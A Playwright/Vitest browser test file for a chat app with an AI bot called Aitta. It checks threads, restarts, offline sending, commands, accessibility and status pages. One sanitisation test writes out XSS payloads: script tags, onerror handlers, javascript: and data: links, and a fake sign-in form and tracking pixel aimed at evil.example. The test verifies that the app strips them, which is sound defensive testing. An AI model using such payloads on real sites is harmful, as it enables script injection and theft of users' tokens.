import { rmSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import sparticuz from '@sparticuz/chromium';
import { chromium } from 'playwright-core';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { BotProcess, createFolder } from './bot-process.ts';

const AXE = createRequire(import.meta.url).resolve('axe-core/axe.min.js');

/** @sparticuz/chromium is built for this alone. */
const hasChromium = process.platform === 'linux' && process.arch === 'x64';
if (!hasChromium)
  process.stderr.write('there is no Chromium from npm for this machine: the page is not tried in a browser\n');

let browser: Browser | undefined;
const folder = createFolder();
const bots: BotProcess[] = [];
beforeAll(async () => {
  if (!hasChromium) return;
  browser = await chromium.launch({
    executablePath: await sparticuz.executablePath(),
    args: ['--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage'],
  });
});
afterEach(async () => {
  await Promise.all((browser?.contexts() ?? []).map((context) => context.close()));
  await Promise.all(bots.splice(0).map((bot) => bot.kill()));
});
afterAll(async () => {
  await browser?.close();
  rmSync(folder.path, { recursive: true, force: true });
});

const STORE = { STORE_URL: `sqlite:${join(folder.path, 'page.sqlite')}` };

const start = async (env: Record<string, string> = {}): Promise<{ bot: BotProcess; port: number; url: string }> => {
  const bot = new BotProcess({ STORE_URL: 'memory:', ...env }, ['start'], folder.path);
  bots.push(bot);
  const port = await bot.started();
  return { bot, port, url: `http://127.0.0.1:${port}/` };
};

/** The network is away on purpose, and what DOMPurify takes out is blocked besides, while it is parsed. */
const HARMLESS =
  /ERR_CONNECTION|Failed to load resource|Applying inline style|requires 'TrustedScript'|HTMLScriptElement was directly modified/;

/** Somebody's tab, with all that went wrong in it. */
const visit = async (url: string, name: string, look: object = {}): Promise<{ page: Page; wrong: string[] }> => {
  if (!browser) throw new Error('there is no browser');
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, ...look });
  const page = await context.newPage();
  const wrong: string[] = [];
  page.on('pageerror', (error) => wrong.push(error.message));
  page.on('console', (message) => {
    if (message.type() === 'error' && !HARMLESS.test(message.text())) wrong.push(message.text());
  });
  page.on('request', (request) => {
    if (new URL(request.url()).hostname !== '127.0.0.1') wrong.push(`asked ${request.url()}`);
  });
  await page.goto(url);
  await page.getByLabel('Name').fill(name);
  await page.keyboard.press('Enter');
  await page.getByRole('log').waitFor();
  return { page, wrong };
};

const write = async (page: Page, text: string, where: 'Message' | 'Reply' = 'Message'): Promise<void> => {
  const field = page.getByRole('textbox', { name: new RegExp(`^${where}`) });
  await field.fill(text);
  await field.press('Enter');
};

/** A machine that is busy takes its time. */
const PATIENT = { timeout: 30_000 };

const answers = (page: Page) => page.locator('[data-by="bot"]:not([aria-busy])');

const violations = async (page: Page): Promise<string[]> => {
  await page.addScriptTag({ path: AXE }).catch(() => undefined);
  return page.evaluate(async () => {
    const { axe } = globalThis as unknown as {
      axe: { run: () => Promise<{ violations: { id: string; nodes: { html: string }[] }[] }> };
    };
    const found = await axe.run();
    return found.violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html ?? ''}`);
  });
};

describe.runIf(hasChromium)('the page in a browser', () => {
  test('a question is answered in a thread, which goes on without a mention, and is there after kill -9 and a restart', async () => {
    const { bot, port, url } = await start(STORE);
    const { page, wrong } = await visit(url, 'Kim');
    await write(page, '@Aitta my name is Ada');
    await page.getByRole('link', { name: /1 reply/ }).click();
    await write(page, 'what is my name?', 'Reply');
    await expect.poll(() => answers(page).allTextContents(), PATIENT).toContainEqual(expect.stringContaining('Ada'));
    await expect.poll(() => answers(page).count(), PATIENT).toBe(2);
    await bot.kill();
    await start({ ...STORE, PORT: String(port) });
    await page.reload();
    await expect.poll(() => answers(page).count(), PATIENT).toBe(2);
    expect(wrong).toEqual([]);
  });

  test('what was written while the bot was away is sent once it is back, once', async () => {
    const { bot, port, url } = await start(STORE);
    const { page } = await visit(url, 'Kim');
    await page.goto(`${url}#/direct`);
    await page.getByRole('log', { name: 'Aitta' }).waitFor();
    await bot.kill();
    await write(page, 'count to 3');
    await page
      .getByText(/Sending|Not connected/)
      .first()
      .waitFor();
    await start({ ...STORE, PORT: String(port) });
    await expect.poll(() => page.getByText('count to 3', { exact: true }).count(), PATIENT).toBe(1);
    await expect.poll(() => answers(page).count(), PATIENT).toBe(1);
  });

  test('two people see the same channel; a command is completed by keyboard, and its private answer is for one of them', async () => {
    const { url } = await start();
    const [kim, alex] = [await visit(url, 'Kim'), await visit(url, 'Alex')];
    await write(kim.page, 'lunch?');
    await alex.page.getByText('lunch?').waitFor();
    const field = kim.page.getByRole('textbox', { name: /^Message/ });
    await field.pressSequentially('/mod');
    await kim.page.getByRole('option', { name: /models/ }).waitFor();
    await kim.page.keyboard.press('Enter');
    await kim.page.keyboard.press('Enter');
    await kim.page.getByText('Only you can see this').waitFor();
    expect(await alex.page.locator('[data-by="bot"]').count()).toBe(0);
    expect([...kim.wrong, ...alex.wrong]).toEqual([]);
  });

  test('what a model writes runs nothing, loads nothing and looks like nothing of ours', async () => {
    const { url } = await start();
    const { page, wrong } = await visit(url, 'Kim');
    await page.goto(`${url}#/direct`);
    const hostile = [
      '<script>document.title = "taken"</script><img src=x onerror="document.title = \'taken\'">',
      '<style>body { display: none }</style><form action="https://evil.example"><input name="token"><button class="main-button">Sign in</button></form>',
      '[link](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) ![pixel](https://evil.example/pixel.png)',
      '<a href="https://evil.example" onclick="alert(1)" id="app" style="position:fixed">there</a><iframe src="https://evil.example"></iframe>',
    ].join('\n\n');
    await write(page, `repeat: ${hostile}`);
    await expect.poll(() => answers(page).getByRole('link', { name: 'there' }).count(), PATIENT).toBe(1);
    const answer = answers(page).locator('.markdown').first();
    expect(
      await answer.locator('script, style, form, iframe, img, button, [onclick], [onerror], [style], [id]').count(),
    ).toBe(0);
    expect(
      await answer.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href'))),
    ).not.toContainEqual(expect.stringMatching(/^(javascript|data):/));
    expect(await page.title()).toBe('Aitta');
    expect(wrong).toEqual([]);
  });

  test.each([
    ['light', { width: 1280, height: 800 }],
    ['dark', { width: 1280, height: 800 }],
    ['light', { width: 375, height: 720 }],
  ] as const)('it is accessible, and nothing sticks out: %s, %o', async (colorScheme, viewport) => {
    const { url } = await start();
    const { page } = await visit(url, 'Kim', { colorScheme, viewport, bypassCSP: true });
    expect(await violations(page)).toEqual([]);
    await write(page, '@Aitta 2000 characters');
    await page.getByRole('link', { name: /1 reply/ }).click();
    await expect.poll(() => answers(page).count(), PATIENT).toBe(1);
    expect(await violations(page)).toEqual([]);
    expect(await page.locator('html').evaluate((html) => html.scrollWidth)).toBeLessThanOrEqual(viewport.width);
    await page.goto(`${url}#/status`);
    await page.getByRole('heading', { name: 'starts-cold' }).waitFor();
    expect(await violations(page)).toEqual([]);
    expect(await page.locator('html').evaluate((html) => html.scrollWidth)).toBeLessThanOrEqual(viewport.width);
  });

  test('the status tells of a model that somebody waits for, and of the budget, as it happens', async () => {
    const { url } = await start();
    const { page, wrong } = await visit(url, 'Kim');
    await page.getByRole('link', { name: 'Status' }).click();
    const cold = page.getByRole('article').filter({ hasText: 'starts-cold' });
    await expect.poll(() => cold.textContent(), PATIENT).toContain('offline');
    await page.getByRole('link', { name: '# general' }).click();
    await write(page, '/aitta ask --model starts-cold why?');
    await page.getByRole('link', { name: 'Status' }).click();
    await expect.poll(() => cold.textContent(), PATIENT).toContain('1 person waits');
    await expect.poll(() => page.locator('.counts').textContent(), PATIENT).toContain('Open questions1');
    expect(await page.getByRole('meter').getAttribute('aria-valuetext')).toMatch(/^\d+ of 60$/);
    expect(wrong).toEqual([]);
  });

  test('what may happen with the real Aitta is rehearsed at a click: a cold model, and back', async () => {
    const { url } = await start();
    const { page, wrong } = await visit(url, 'Kim');
    await page.getByText('Rehearse').click();
    await page.getByRole('button', { name: 'Make the models cold' }).click();
    await page.getByText('No model runs now').waitFor();
    await write(page, '@Aitta my name is Ada');
    await page.getByRole('link', { name: /1 reply/ }).click();
    const thread = page.getByRole('log', { name: 'Thread' });
    await expect.poll(() => thread.textContent(), PATIENT).toMatch(/Starting|is waiting for GPUs/);
    await page.getByRole('button', { name: 'Back to normal' }).click();
    await expect.poll(() => thread.textContent(), PATIENT).toContain('your name is Ada');
    expect(wrong).toEqual([]);
  });

  test('without the chat the status is all there is, and nobody is asked for a name', async () => {
    const { url } = await start({ WEB: 'status', AITTA_API_URL: 'standin:' });
    if (!browser) throw new Error('there is no browser');
    const page = await (await browser.newContext()).newPage();
    await page.goto(url);
    await page.getByRole('heading', { name: 'starts-cold' }).waitFor();
    expect(await page.getByRole('navigation').count()).toBe(0);
    expect((await fetch(`${url}chat/start`)).status).toBe(404);
  });
});
